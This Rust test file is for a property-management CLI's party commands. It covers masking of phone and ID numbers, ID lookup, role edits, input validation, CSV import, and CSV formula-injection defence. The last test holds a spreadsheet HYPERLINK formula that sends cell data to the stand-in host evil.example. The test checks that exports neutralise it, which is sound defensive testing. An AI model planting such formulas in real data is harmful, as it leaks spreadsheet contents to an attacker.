//! `propdesk party`: owners, tenants and contractors.

use crate::common::*;

fn add_zhang(t: &Test) -> String {
    t.run(&[
        "party",
        "add",
        "--name",
        "张三",
        "--role",
        "owner",
        "--phone",
        "13812345678",
        "--id-number",
        "110101199003071234",
        "--emergency",
        "李四:13900001111:配偶",
    ])
    .ok()
    .trim()
    .to_string()
}

#[test]
fn phones_and_id_numbers_are_masked_unless_revealed() {
    let t = Test::office();
    let id = add_zhang(&t);
    let shown = t.run(&["party", "show", &id]);
    let shown = shown.ok();
    assert!(
        shown.contains("138****5678")
            && shown.contains("1101**********1234")
            && shown.contains("139****1111"),
        "{shown}"
    );
    assert!(!shown.contains("13812345678"));
    let json = t.run(&["party", "show", &id, "--format", "json"]);
    assert!(json.ok().contains("138****5678") && !json.stdout.contains("110101199003071234"));
    let csv = t.run(&["party", "list", "--format", "csv"]);
    assert!(csv.ok().contains("138****5678"));
    let revealed = t.run(&["party", "show", &id, "--reveal"]);
    assert!(
        revealed.ok().contains("13812345678") && revealed.stdout.contains("110101199003071234")
    );
    // The record itself keeps them in full.
    assert!(
        t.read(&format!("parties/{id}.yaml"))
            .contains("\"13812345678\"")
    );
}

#[test]
fn parties_are_typed_by_any_unique_part_of_their_id() {
    let t = Test::office();
    let id = add_zhang(&t);
    let part = id[id.len() - 4..].to_lowercase();
    insta::assert_snapshot!(
        "party_show_zh",
        t.run(&["party", "show", &part]).ok().replace(&id, "<ID>")
    );
    let other = t
        .run(&["party", "add", "--name", "李四", "--role", "tenant"])
        .ok()
        .trim()
        .to_string();
    // The shared date part names both: ambiguous, with the candidates.
    let err = t.run(&["party", "show", "20261123"]).fails(1).to_string();
    assert!(
        err.contains("names 2 parties") && err.contains(&id) && err.contains(&other),
        "{err}"
    );
}

#[test]
fn editing_roles_is_refused_while_a_unit_needs_the_role() {
    let t = Test::office();
    let id = add_zhang(&t);
    t.run(&[
        "unit", "add", "A-101", "--area", "50", "--use", "shop", "--owner", &id,
    ])
    .ok();
    let err = t
        .run(&[
            "party",
            "edit",
            &id,
            "--remove-role",
            "owner",
            "--add-role",
            "tenant",
        ])
        .fails(1)
        .to_string();
    assert!(err.contains("still named on units A-101"), "{err}");
    t.run(&[
        "party",
        "edit",
        &id,
        "--add-role",
        "tenant",
        "--phone",
        "13900002222",
    ])
    .ok();
    let rec = t.read(&format!("parties/{id}.yaml"));
    assert!(
        rec.contains("- tenant")
            && rec.contains("13900002222")
            && rec.contains("role tenant added"),
        "{rec}"
    );
}

#[test]
fn bad_party_input_is_refused() {
    let t = Test::office();
    let err = t
        .run(&[
            "party", "add", "--name", "x", "--role", "owner", "--phone", "12ab",
        ])
        .fails(1)
        .to_string();
    // Masked even as typed: an error may end up in a log.
    assert!(
        err.contains("invalid phone \"**ab\": 'a' (character 3) is not a digit"),
        "{err}"
    );
    let err = t
        .run(&["party", "add", "--name", "x", "--role", "landlord"])
        .fails(2)
        .to_string();
    assert!(err.contains("landlord"), "{err}");
    let err = t
        .run(&[
            "party",
            "add",
            "--name",
            "x",
            "--role",
            "owner",
            "--emergency",
            "nobody",
        ])
        .fails(2)
        .to_string();
    assert!(err.contains("NAME:PHONE"), "{err}");
    assert_eq!(t.files("parties"), vec!["parties/.gitkeep"]);
}

#[test]
fn import_reports_every_bad_row_and_imports_nothing() {
    let t = Test::office();
    t.write(
        "p.csv",
        "姓名,类型,角色,电话\n张三,个人,业主,13812345678\n,个人,业主,\n李四,机构,租户,1\n",
    );
    let err = t.run(&["party", "import", "p.csv"]).fails(1).to_string();
    assert!(err.contains("p.csv:3: no name"), "{err}");
    assert!(
        err.contains("p.csv:4: unknown party kind \"机构\""),
        "{err}"
    );
    assert!(err.contains("p.csv:4: invalid phone \"1\""), "{err}");
    assert_eq!(t.files("parties"), vec!["parties/.gitkeep"]);
    t.write("p.csv", "姓名,类型,角色,电话,紧急联系人\n张三,个人,业主;租户,13812345678,李四:13900001111:配偶\n华远科技,公司,租户,010-65881234,\n");
    t.run(&["party", "import", "p.csv"]).ok();
    let list = t.run(&["party", "list", "--role", "tenant", "--format", "json"]);
    let v: serde_json::Value = serde_json::from_str(list.ok()).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 2);
}

/// Issue 21: a name a spreadsheet would run as a formula is exported as text; the
/// program's own numbers stay numbers.
#[test]
fn a_csv_export_never_hands_a_spreadsheet_a_formula() {
    let t = Test::demo("zh-CN");
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    t.run(&["party", "add", "--name", formula, "--role", "tenant"])
        .ok();
    t.run(&["party", "add", "--name", "@SUM(1+1)", "--role", "tenant"])
        .ok();
    let csv = t
        .run(&["party", "list", "--format", "csv"])
        .ok()
        .to_string();
    let mut r = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = r
        .records()
        .map(|x| x.unwrap()[2].to_string())
        .filter(|n| n.contains("HYPERLINK") || n.contains("SUM"))
        .collect();
    assert_eq!(names.len(), 2, "{csv}");
    for n in &names {
        assert!(n.starts_with('\''), "{n} would run as a formula");
    }
    // A balance the program writes stays a number a spreadsheet can add.
    t.run(&["pay", "A-1203", "100000"]).ok();
    let ledger = t
        .run(&["ledger", "A-1203", "--format", "csv"])
        .ok()
        .to_string();
    assert!(ledger.contains(",-"), "{ledger}");
    assert!(!ledger.contains(",'-"), "{ledger}");
}
